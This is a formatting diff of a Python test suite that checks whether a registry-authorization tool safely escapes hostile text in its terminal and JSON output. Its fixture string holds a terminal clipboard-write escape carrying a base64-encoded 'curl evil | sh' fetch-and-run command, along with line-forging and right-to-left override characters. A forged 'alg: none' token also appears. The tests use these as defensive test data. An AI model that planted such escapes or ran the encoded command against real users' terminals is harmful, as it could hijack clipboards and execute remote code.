@@ -29,11 +29,15 @@ from tests.support.policies import policy_text
 
 # A clipboard write (OSC 52 … BEL), a carriage return with "erase line" and a forged line, a
 # right-to-left override, a one-character CSI, and rich markup that must stay text.
-HOSTILE = ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\x1b[2K+ anonymous push secret/x"
-           "\u202e\x9b[bold red]granted[/]:thumbs_up:")
+HOSTILE = (
+    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\x1b[2K+ anonymous push secret/x"
+    "\u202e\x9b[bold red]granted[/]:thumbs_up:"
+)
 # The same in a YAML double-quoted scalar.
-YAML_HOSTILE = ('"\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\r\\e[2K+ anonymous push secret/x'
-                '\\u202e\\x9b[bold red]granted[/]:thumbs_up:"')
+YAML_HOSTILE = (
+    '"\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\r\\e[2K+ anonymous push secret/x'
+    '\\u202e\\x9b[bold red]granted[/]:thumbs_up:"'
+)
 RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")
 SGR = re.compile(r"\x1b\[[0-9;]*m")
 SHOWN = "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x0d\\x1b[2K+ anonymous push secret/x\\u202e\\x9b"
@@ -43,8 +47,11 @@ SHOWN = "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x0d\\x1b[2K+ anonymous push secre
 def terminal(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
     """Run the tool as if its output were a terminal (rich styles it) or a pipe."""
     if request.param == "terminal":
-        monkeypatch.setattr(render, "Console", functools.partial(
-            Console, force_terminal=True, color_system="truecolor", width=200))
+        monkeypatch.setattr(
+            render,
+            "Console",
+            functools.partial(Console, force_terminal=True, color_system="truecolor", width=200),
+        )
     return request.param == "terminal"
 
 
@@ -65,9 +72,15 @@ def shown(capsys: pytest.CaptureFixture[str], terminal: bool) -> tuple[str, str]
 def hostile_policy(tmp_path: Path, password_hashes: dict[str, str]) -> Path:
     """A rule with a hostile comment, in a file with a hostile name: the tools print both."""
     path = tmp_path / f"policy{HOSTILE.replace('/', '_')}.yaml"
-    path.write_text(policy_text(password_hashes, extra_rules=(
-        f"  - comment: {YAML_HOSTILE}\n    account: ci\n    repository: \"x/**\"\n"
-        "    actions: [pull]\n")))
+    path.write_text(
+        policy_text(
+            password_hashes,
+            extra_rules=(
+                f'  - comment: {YAML_HOSTILE}\n    account: ci\n    repository: "x/**"\n'
+                "    actions: [pull]\n"
+            ),
+        )
+    )
     return path
 
 
@@ -78,11 +91,14 @@ def plain_policy(tmp_path: Path, password_hashes: dict[str, str]) -> Path:
     return path
 
 
-def test_policy_test_report_and_junit(hostile_policy: Path, tmp_path: Path, capsys,
-                                      terminal: bool) -> None:
+def test_policy_test_report_and_junit(
+    hostile_policy: Path, tmp_path: Path, capsys, terminal: bool
+) -> None:
     tests = tmp_path / "tests.yaml"
-    tests.write_text(f"tests:\n  - name: {YAML_HOSTILE}\n    account: ci\n"
-                     "    scope: repository:x/a:pull\n    granted: [pull, push]\n")
+    tests.write_text(
+        f"tests:\n  - name: {YAML_HOSTILE}\n    account: ci\n"
+        "    scope: repository:x/a:pull\n    granted: [pull, push]\n"
+    )
     junit = tmp_path / "junit.xml"
     assert main(["policy", "test", str(hostile_policy), str(tests), "--junit", str(junit)]) == 1
     out, _ = shown(capsys, terminal)
@@ -94,22 +110,24 @@ def test_policy_test_report_and_junit(hostile_policy: Path, tmp_path: Path, caps
     assert case is not None and case.get("name", "").startswith("\\x1b]52;c;")
 
 
-def test_policy_diff(plain_policy: Path, hostile_policy: Path, capsys,
-                     terminal: bool) -> None:
+def test_policy_diff(plain_policy: Path, hostile_policy: Path, capsys, terminal: bool) -> None:
     assert main(["policy", "diff", str(plain_policy), str(hostile_policy)]) == 1
     out, _ = shown(capsys, terminal)
     assert SHOWN in out and "\\x1b]52;c;" in out.split("new: ")[1]  # comment and file name
 
 
 def test_policy_explain(hostile_policy: Path, capsys, terminal: bool) -> None:
-    assert main(["policy", "explain", str(hostile_policy), "--account", "ci",
-                 "repository:x/a:pull"]) == 0
+    assert (
+        main(["policy", "explain", str(hostile_policy), "--account", "ci", "repository:x/a:pull"])
+        == 0
+    )
     out, _ = shown(capsys, terminal)
     assert SHOWN in out
 
 
-def test_policy_check_names_files_safely(plain_policy: Path, tmp_path: Path, capsys,
-                                         terminal: bool) -> None:
+def test_policy_check_names_files_safely(
+    plain_policy: Path, tmp_path: Path, capsys, terminal: bool
+) -> None:
     # `regauth policy check policies/*.yaml`: a pull request chose the file names.
     named = tmp_path / f"p{HOSTILE.replace('/', '_')}.yaml"
     named.write_text(plain_policy.read_text())
@@ -130,13 +148,32 @@ T0 = "2026-01-01T00:00:0{}+00:00"
 
 
 def test_replay(hostile_policy: Path, tmp_path: Path, capsys, terminal: bool) -> None:
-    log = _log(tmp_path, {
-        "time": T0.format(0), "conversation": "c1", "client": "10.0.0.1:1000", "kind": "token",
-        "method": "GET", "path": "/v2/token", "status": 200,
-        "token_request": {"requested": ["repository:x/a:pull"]},
-        "token_response": {"account": "ci", "decisions": [{
-            "scope": "repository:x/a:pull", "outcome": "granted", "granted": ["pull", "push"],
-            "rule": 1, "line": 3, "comment": HOSTILE}]}})
+    log = _log(
+        tmp_path,
+        {
+            "time": T0.format(0),
+            "conversation": "c1",
+            "client": "10.0.0.1:1000",
+            "kind": "token",
+            "method": "GET",
+            "path": "/v2/token",
+            "status": 200,
+            "token_request": {"requested": ["repository:x/a:pull"]},
+            "token_response": {
+                "account": "ci",
+                "decisions": [
+                    {
+                        "scope": "repository:x/a:pull",
+                        "outcome": "granted",
+                        "granted": ["pull", "push"],
+                        "rule": 1,
+                        "line": 3,
+                        "comment": HOSTILE,
+                    }
+                ],
+            },
+        },
+    )
     assert main(["replay", str(log), "--policy", str(hostile_policy)]) == 1
     out, _ = shown(capsys, terminal)
     assert out.count(SHOWN) == 2  # the comment logged then, and the policy's now
@@ -144,23 +181,49 @@ def test_replay(hostile_policy: Path, tmp_path: Path, capsys, terminal: bool) ->
 
 
 def _hostile_log(tmp_path: Path) -> Path:
-    forged = {"scheme": "Bearer", "jwt": {"header": {"alg": "none"},
-                                          "claims": {"sub": HOSTILE, "jti": "j1"}}}
+    forged = {
+        "scheme": "Bearer",
+        "jwt": {"header": {"alg": "none"}, "claims": {"sub": HOSTILE, "jti": "j1"}},
+    }
     return _log(
         tmp_path,
-        {"time": T0.format(0), "conversation": "c1", "client": "10.0.0.1:1000",
-         "kind": "token", "method": "GET", "path": f"/v2/token?client_id={HOSTILE}",
-         "status": 401, "auth": {"scheme": "Basic", "username": HOSTILE},
-         "token_request": {"grant_type": HOSTILE, "username": HOSTILE},
-         "token_response": {"refused": HOSTILE}},
-        {"time": T0.format(1), "conversation": "c2", "client": "10.0.0.1:1001",
-         "kind": "registry", "method": "GET", "path": f"/v2/public/app/tags/list?n={HOSTILE}",
-         "status": 401, "answered_by": "regauth", "auth": forged,
-         "decision": {"forward": False, "reason": f"invalid token: {HOSTILE}"},
-         "challenge": {"scheme": "Bearer", "scopes": [HOSTILE], "error": "invalid_token"}},
-        {"time": T0.format(2), "conversation": "c3", "client": "10.0.0.1:1002",
-         "kind": "registry", "method": "GET", "path": "/v2/", "status": None,
-         "error": HOSTILE, "auth": {"scheme": "Basic", "username": HOSTILE}})
+        {
+            "time": T0.format(0),
+            "conversation": "c1",
+            "client": "10.0.0.1:1000",
+            "kind": "token",
+            "method": "GET",
+            "path": f"/v2/token?client_id={HOSTILE}",
+            "status": 401,
+            "auth": {"scheme": "Basic", "username": HOSTILE},
+            "token_request": {"grant_type": HOSTILE, "username": HOSTILE},
+            "token_response": {"refused": HOSTILE},
+        },
+        {
+            "time": T0.format(1),
+            "conversation": "c2",
+            "client": "10.0.0.1:1001",
+            "kind": "registry",
+            "method": "GET",
+            "path": f"/v2/public/app/tags/list?n={HOSTILE}",
+            "status": 401,
+            "answered_by": "regauth",
+            "auth": forged,
+            "decision": {"forward": False, "reason": f"invalid token: {HOSTILE}"},
+            "challenge": {"scheme": "Bearer", "scopes": [HOSTILE], "error": "invalid_token"},
+        },
+        {
+            "time": T0.format(2),
+            "conversation": "c3",
+            "client": "10.0.0.1:1002",
+            "kind": "registry",
+            "method": "GET",
+            "path": "/v2/",
+            "status": None,
+            "error": HOSTILE,
+            "auth": {"scheme": "Basic", "username": HOSTILE},
+        },
+    )
 
 
 def test_trace(tmp_path: Path, capsys, terminal: bool) -> None:
@@ -179,14 +242,18 @@ def test_trace_json_is_escaped_by_json(tmp_path: Path, capsys) -> None:
 
 
 def test_a_line_is_plain_text_off_a_terminal_and_styled_on_one(
-        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     plain = io.StringIO()
     printer = render.Printer(plain)
     assert printer.styled is False  # a StringIO is no terminal
     printer.line(("ok", "green"), " a\tb ", "[bold]not markup[/]")
     assert plain.getvalue() == "ok a\\x09b [bold]not markup[/]\n"
-    monkeypatch.setattr(render, "Console", functools.partial(
-        Console, force_terminal=True, color_system="truecolor", width=200))
+    monkeypatch.setattr(
+        render,
+        "Console",
+        functools.partial(Console, force_terminal=True, color_system="truecolor", width=200),
+    )
     styled = io.StringIO()
     printer = render.Printer(styled)
     assert printer.styled is True
@@ -198,6 +265,6 @@ def test_a_line_is_plain_text_off_a_terminal_and_styled_on_one(
 def test_json_keeps_strings_exactly_and_escapes_every_control_character() -> None:
     out = io.StringIO()
     render.print_json({"text": HOSTILE, "n": 1, "when": Path("/x")}, out)
-    assert out.getvalue().endswith("}\n") and "\n  \"n\": 1" in out.getvalue()
+    assert out.getvalue().endswith("}\n") and '\n  "n": 1' in out.getvalue()
     assert not any(c in out.getvalue() for c in RAW)
     assert json.loads(out.getvalue()) == {"text": HOSTILE, "n": 1, "when": "/x"}
